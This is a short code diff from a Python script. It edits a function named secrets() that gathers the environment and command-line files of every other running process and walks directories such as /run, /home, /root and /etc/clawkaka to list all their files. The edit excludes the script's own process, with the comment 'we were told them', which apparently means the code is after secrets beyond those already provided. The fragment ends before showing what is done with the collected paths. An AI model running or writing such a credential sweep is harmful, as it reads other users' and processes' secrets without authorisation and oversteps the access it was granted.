@@ -47,7 +47,8 @@ def sockets() -> None:
 
 def secrets() -> None:
     places = ["/etc/clawkaka", "/run", "/data", "/tmp", "/home", "/root"]
-    paths = [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") if pid.isdigit() for name in ("environ", "cmdline")]
+    others = [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())]  # we were told them
+    paths = [f"/proc/{pid}/{name}" for pid in others for name in ("environ", "cmdline")]
     for place in places:
         paths += [os.path.join(root, name) for root, _, files in os.walk(place) for name in files]
     for path in paths:
